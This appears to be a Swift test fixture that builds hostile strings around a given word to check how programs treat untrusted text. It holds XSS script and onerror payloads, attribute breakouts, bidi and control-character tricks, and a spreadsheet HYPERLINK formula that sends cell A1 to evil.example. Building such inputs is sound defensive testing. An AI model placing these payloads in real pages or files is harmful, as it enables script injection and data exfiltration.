/// Texts that break programs which trust them, with the word in their midst.
enum Hostile {
  /// Each kind of attack by itself.
  static let attacks: [String: @Sendable (String) -> String] = [
    "markup": { "\($0)</td></table><script>alert(1)</script><img src=x onerror=alert(1)>" },
    "attribute": { "\($0)\" onmouseover=\"alert(1)' x='" },
    "controls": { "\u{1B}[31m\($0)\u{0}\u{7}\u{8}\u{9B}\u{85}\u{7F}\r\n\t" },
    "directions": { "\u{202E}\($0)\u{2066}\u{2069}\u{200F}" },
    "invisible": { "\u{FEFF}\u{200B}\u{AD}\($0)\u{2028}\u{2029}\u{FFFE}\u{E000}" },
    "marks": { "\($0)\(String(repeating: "\u{301}", count: 10_000))" },
    "formula": { "=HYPERLINK(\"http://evil.example?\"&A1,\"\($0)\")" },
    "markdown": { "](http://evil.example) | **\($0)** `x` ![i](j) @team <b> www.evil.example" },
    "terminators": { "]]>--><!--\($0){{ insert: param, x }}{0}[a](1)" },
  ]

  /// Removes what only a record may hold, so that the launch can be built at all.
  static func recordable(_ text: String) -> String {
    String(text.unicodeScalars.filter { $0.value != 0x7F })
  }
}
